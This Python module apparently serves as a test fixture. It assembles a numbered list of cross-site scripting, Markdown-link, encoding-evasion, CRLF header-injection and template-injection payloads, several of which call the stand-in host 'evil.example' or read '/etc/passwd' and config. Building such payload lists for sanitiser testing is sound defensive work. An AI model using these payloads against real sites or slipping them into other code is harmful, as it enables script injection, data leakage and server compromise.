"""Texts that would do something if they were more than text.

Each calls `pwned`, or asks another host for something, with a number of its own.
"""

from __future__ import annotations

from itertools import count
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

ELSEWHERE = "evil.example"

_RUNS = "pwned(§)"
_ASKS = f"//{ELSEWHERE}/§"

_TAGS = (
    f"<script>{_RUNS}</script>",
    f"<SCRIPT >{_RUNS}</SCRIPT >",
    f"<script src={_ASKS}></script>",
    f"<script/x>{_RUNS}</script>",
    f"<script type=module>import '{_ASKS}'</script>",
    f"<scr<script>ipt>{_RUNS}</scr</script>ipt>",
    f"<<script>{_RUNS};//<</script>",
    f"<iframe src={_ASKS}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUNS}</script>"></iframe>',
    f"<object data={_ASKS}></object>",
    f"<object data='data:text/html,<script>parent.{_RUNS}</script>'></object>",
    f"<embed src={_ASKS}>",
    f"<base href={_ASKS}/>",
    f"<meta http-equiv=refresh content='0;url={_ASKS}'>",
    f"<meta http-equiv=refresh content='0;javascript:{_RUNS}'>",
    f"<link rel=stylesheet href={_ASKS}>",
    f"<link rel=prefetch href={_ASKS}>",
    f"<link rel=dns-prefetch href={_ASKS}>",
    f"<link rel=preconnect href={_ASKS}>",
    f"<link rel=preload as=image href={_ASKS}>",
    f"<link rel=icon href={_ASKS}>",
    f"<img src={_ASKS}>",
    f"<img srcset='{_ASKS} 1x, {_ASKS}b 2x'>",
    f"<picture><source srcset={_ASKS}><img></picture>",
    f"<video poster={_ASKS}></video>",
    f"<video><source src={_ASKS}></video>",
    f"<audio src={_ASKS} autoplay></audio>",
    f"<input type=image src={_ASKS}>",
    f"<table background={_ASKS}><tr><td>x</table>",
    f"<frameset><frame src={_ASKS}></frameset>",
    f"<portal src={_ASKS}></portal>",
    f"<style>@import '{_ASKS}';</style>",
    f"<style>body{{background:url({_ASKS})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({_ASKS})}} *{{font-family:x}}</style>",
    f"<p style='background:url({_ASKS})'>x</p>",
    f"<p style=\"list-style-image:url('{_ASKS}');display:list-item\">x</p>",
    f"<form action={_ASKS}><button>Approve</button></form>",
    f"<form action=javascript:{_RUNS}><input type=submit autofocus></form>",
    f"<button form=ask formaction={_ASKS}>Approve what is ticked</button>",
    f"<button formaction=javascript:{_RUNS}>x</button>",
    f"<a href={_ASKS} ping={_ASKS}>x</a>",
    f"<a href=javascript:{_RUNS}>x</a>",
    "<plaintext>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUNS}>'>",
    f"<template><script>{_RUNS}</script></template>",
    f"<xmp><img src=x onerror={_RUNS}></xmp>",
    f"<isindex action=javascript:{_RUNS}>",
    f"<marquee onstart={_RUNS}>x</marquee>",
    f"<dialog open><script>{_RUNS}</script></dialog>",
    f"<keygen autofocus onfocus={_RUNS}>",
)
"""Elements that do something by being there."""

_HANDLERS = (
    *(
        f"<{tag} {event}={_RUNS}>"
        for tag, event in (
            *(("img src=x", "onerror"), ("body", "onload"), ("svg", "onload")),
            *(("input autofocus", "onfocus"), ("select autofocus", "onfocus")),
            *(("textarea autofocus", "onfocus"), ("details open", "ontoggle")),
            *(("video src=x", "onerror"), ("audio src=x", "onerror")),
            *(("p style=animation:x", "onanimationend"), ("p", "onmouseover")),
            *(("p contenteditable", "onbeforeinput"), ("body", "onhashchange")),
            *(("p popover", "onbeforetoggle"), ("div", "onpointerenter")),
            *(("img src=x", "OnErRoR"), ("img/src=x", "onerror")),
        )
    ),
    f"<img src=x onerror\n=\n{_RUNS}>",
    f"<img src=x:x onerror='{_RUNS}'//",
    f'<img """><script>{_RUNS}</script>">',
    "<img src=x onerror=&#112;wned(§)>",
    f"<svg><animate onbegin={_RUNS} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUNS} attributeName=x>",
)
"""Elements that wait for something to happen."""

_FOREIGN = (
    f"<svg><script>{_RUNS}</script></svg>",
    f"<svg><script href={_ASKS} /></svg>",
    f"<svg><use href='{_ASKS}#x'/></svg>",
    f"<svg><image href={_ASKS} /></svg>",
    f"<svg><a xlink:href='javascript:{_RUNS}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_RUNS}></foreignObject></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{_RUNS} />",
    f"<svg><style>@import '{_ASKS}'</style></svg>",
    f"<svg><title><img src=x onerror={_RUNS}></title></svg>",
    f"<svg><desc><script>{_RUNS}</script></desc></svg>",
    f"<math><mtext><img src=x onerror={_RUNS}></mtext></math>",
    f"<math href='javascript:{_RUNS}'>x</math>",
    f"<math><maction actiontype='statusline#{_ASKS}' xlink:href=javascript:{_RUNS}>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUNS}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUNS}>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUNS}>'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_RUNS}>",
    f"<table><td><style><!--</style><img src=x onerror={_RUNS}>--></td></table>",
)
"""SVG and MathML, and what a second reading makes of them."""

_OUT = (
    *(
        f"{close}<img src=x onerror={_RUNS}>"
        for close in (
            *('">', "'>", "`>", "-->", "--!>", "]]>", "</title>", "</textarea>"),
            *("</script>", "</style>", "</option></select>", "</svg>", "</p></main>"),
            *("</a>", "</code></pre>", "</template>", "</summary></details>", "?>"),
        )
    ),
    *(
        f"{quote} autofocus onfocus={quote}{_RUNS}"
        for quote in ('"', "'", "`", " ", "&quot;", "&#34;", '\\"', "\u201c")
    ),
    f'" style="background:url({_ASKS})',
    f'" formaction="javascript:{_RUNS}',
    f'" srcset="{_ASKS}',
    f"' accesskey='x' onclick='{_RUNS}",
    f"</span>\n</main><script>{_RUNS}</script><main>",
    f"';{_RUNS};//",
    f'";{_RUNS};//',
    f"</script><script>{_RUNS}</script>",
    f"${{{_RUNS}}}",
)
"""Ways out of an attribute, an element, a comment or a string."""

_LINKS = (
    *(
        f"[x]({address})"
        for address in (
            *(f"javascript:{_RUNS}", f"JaVaScRiPt:{_RUNS}", f"vbscript:{_RUNS}"),
            *(f"data:text/html,<script>{_RUNS}</script>", f"javascript&colon;{_RUNS}"),
            *(
                f"&#106;avascript:{_RUNS}",
                f"java%0ascript:{_RUNS}",
                f"\\javascript:{_RUNS}",
            ),
            *(
                f"<javascript:{_RUNS}>",
                f"<java\tscript:{_RUNS}>",
                f"\x01javascript:{_RUNS}",
            ),
            *("file:///etc/§", f"blob:{_RUNS}", f"view-source:{_RUNS}"),
            *(f'x "x\' onmouseover={_RUNS} x"', f'x "\\"><script>{_RUNS}</script>"'),
        )
    ),
    f"[x][§]\n\n[§]: javascript:{_RUNS}",
    f"[§]\n\n[§]: <javascript:{_RUNS}> 'x'",
    f"<javascript:{_RUNS}>",
    f"<http:{_ASKS}?q='onmouseover={_RUNS}>",
    f"![x](http:{_ASKS}.png)",
    f"![x](javascript:{_RUNS})",
    f"![x][§]\n\n[§]: http:{_ASKS}.png",
    f"![a](x \"b' onerror='{_RUNS}\")",
    f"[![x](http:{_ASKS}.png)](javascript:{_RUNS})",
    "[x](data:image/svg+xml;base64,§ 'y')",
    f"`<img src=x onerror={_RUNS}>`",
    f'```"><img src=x onerror={_RUNS}>\ncode\n```',
    f"```html onload={_RUNS}\n<script>{_RUNS}</script>\n```",
    f"    <script>{_RUNS}</script>",
    f"| a |\n|:-:|\n| <img src=x onerror={_RUNS}> |",
    f"> <script>\n{_RUNS}\n</script>",
    f"<div>\n<script>{_RUNS}</script>\n</div>",
    f"<!-- -->\n<script>{_RUNS}</script>",
    f"<?php echo 1 ?><script>{_RUNS}</script>",
    f"<![CDATA[<script>{_RUNS}</script>]]>",
    f"<!doctype x><script>{_RUNS}</script>",
    f"# <svg onload={_RUNS}>",
    f"1. <details open ontoggle={_RUNS}>",
)
"""What Markdown could make of a text."""

_WRITTEN_OTHERWISE = (
    f"&lt;script&gt;{_RUNS}&lt;/script&gt;",
    f"&#60;script&#62;{_RUNS}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_RUNS}&#x3e;",
    f"&amp;lt;script&amp;gt;{_RUNS}",
    f"%3Cscript%3E{_RUNS}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUNS}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUNS}\\x3e",
    f"\uff1cscript\uff1e{_RUNS}\uff1c/script\uff1e",
    f"\u02bascript\u02ba onload={_RUNS}",
    f"+ADw-script+AD4-{_RUNS}+ADw-/script+AD4-",
    f"<scr\u200bipt>{_RUNS}</scr\u200bipt>",
    f"<\ufeffscript>{_RUNS}</script>",
    f"<img\u2028src=x\u2029onerror={_RUNS}>",
    f"<img\u00a0src=x\u3000onerror={_RUNS}>",
    f"\u202e<script>{_RUNS}</script>\u202c",
    f"\u2066<img src=x onerror={_RUNS}>\u2069",
    f"<scr\0ipt>{_RUNS}</scr\0ipt>",
    f"<img src=x \0onerror={_RUNS}>",
    f"<img src=x\x0bonerror={_RUNS}>",
    f"<img\x0csrc=x\x0conerror={_RUNS}>",
    f"x\r\nContent-Type: text/html\r\n\r\n<script>{_RUNS}</script>",
    f"x\r\nLocation: http:{_ASKS}",
    f"<img src=x\ronerror={_RUNS}>",
    f"\u017fcript <\u017fcript>{_RUNS}</\u017fcript>",
    f"<\u0131mg src=x onerror={_RUNS}>",
    f"\U000e003cscript\U000e003e{_RUNS}",
    f"⟦U+003C⟧script⟦U+003E⟧{_RUNS}",
)
"""Other spellings of the same, and characters that nobody sees."""

_TEMPLATES = (
    f"{{{{ '<script>{_RUNS}</script>' | safe }}}}",
    f"{{% autoescape false %}}<script>{_RUNS}</script>{{% endautoescape %}}",
    "{{ self.__init__.__globals__ }}§",
    "{{ config }}{{ token }}§",
    "{% include '/etc/passwd' %}§",
    f"{{# #}}<script>{_RUNS}</script>",
    f"{{% raw %}}<script>{_RUNS}</script>{{% endraw %}}",
    f"{{% endblock %}}</main><script>{_RUNS}</script>",
    f"${{7*7}}<%= {_RUNS} %>#{{{_RUNS}}}",
    f"{{{{constructor.constructor('{_RUNS}')()}}}}",
)
"""What a template could take for its own."""


def _numbered() -> Iterator[str]:
    numbers = count(1)
    for kind in (
        *(_TAGS, _HANDLERS, _FOREIGN, _OUT, _LINKS, _WRITTEN_OTHERWISE, _TEMPLATES),
    ):
        yield from (text.replace("§", str(next(numbers))) for text in kind)


PAYLOADS = tuple(_numbered())
